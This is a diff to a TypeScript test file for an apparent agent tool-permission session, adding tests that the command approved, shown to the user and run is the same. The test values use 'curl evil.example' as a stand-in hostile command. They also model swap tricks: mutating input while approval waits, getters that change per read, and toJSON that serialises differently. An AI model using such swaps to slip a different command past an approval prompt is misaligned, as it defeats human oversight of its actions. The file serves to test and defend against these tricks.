@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { plainCopy } from './plain-copy.js';
 import { allow, call, ids, setUp } from './session-setup.js';
 import type { PermissionRequest } from './types.js';
 
@@ -39,12 +40,48 @@ describe('a step with an allowed, an asking and a denied call', () => {
     ]);
   });
 
-  it('gives a claim back the very object that it was asked with', async () => {
+  it('gives a claim back the very copy that it was asked with', async () => {
+    const own = { ...read, input: plainCopy(read.input) };
+    const claim = await setUpAndClaim(own);
+    expect(claim.ok && claim.input).toBe(own.input);
+    const other = await setUpAndClaim(read);
+    expect(other.ok && other.input).toEqual(read.input);
+    expect(other.ok && other.input).not.toBe(read.input);
+  });
+
+  it.each<[string, (input: { command: string }) => unknown]>([
+    ['changed while it waits', (input) => input],
+    ['read otherwise each time', () => turning('curl evil.example', 'npm test')],
+    [
+      'written otherwise than it is read',
+      () => ({ command: 'npm test', toJSON: () => ({ command: 'curl evil.example' }) }),
+    ],
+    ['a list that is written otherwise', () => Object.assign(['evil'], { toJSON: () => ['npm test'] })],
+  ])('decides, shows and runs one and the same input: %s', async (_what, make) => {
+    const { session, engine } = setUp();
+    const given = { command: 'curl evil.example' };
+    const input = make(given);
+    const announced = session.evaluate({ id: 'c', name: 'ask', input });
+    given.command = 'npm test';
+    const decision = await announced;
+    const [question] = await session.pending();
+    const [seen] = engine.checked.slice(-1);
+    expect(question?.input).toEqual(seen?.input);
+    expect(decision.input).toEqual(seen?.input);
+    await session.answer({ toolCallId: 'c', behavior: 'allow', fingerprint: question?.fingerprint ?? '' });
+    const claim = await session.claim({ id: 'c', name: 'ask', input: seen?.input });
+    expect(claim.ok && claim.input).toEqual(seen?.input);
+    expect(await session.claim({ id: 'c', name: 'ask', input: { command: 'other' } })).toMatchObject({ ok: false });
+  });
+
+  it('denies what cannot be read, and does not throw', async () => {
     const { session } = setUp();
-    await session.evaluate(read);
-    expect(await session.claim(read)).toHaveProperty('input', read.input);
-    const claim = await setUpAndClaim(read);
-    expect(claim.ok && claim.input).toBe(read.input);
+    const input = {
+      get a() {
+        throw new Error('no');
+      },
+    };
+    expect(await session.evaluate({ id: 'c', name: 'ask', input })).toMatchObject({ behavior: 'deny' });
   });
 
   async function setUpAndClaim(one: typeof read) {
@@ -239,3 +276,12 @@ describe('a call that its author wants approved', () => {
     expect(await session.claim(call('a', 'read'))).toMatchObject({ ok: true });
   });
 });
+
+/** Says something else each time it is read. */
+function turning(...texts: string[]): object {
+  return {
+    get command() {
+      return texts.length > 1 ? texts.shift() : texts[0];
+    },
+  };
+}
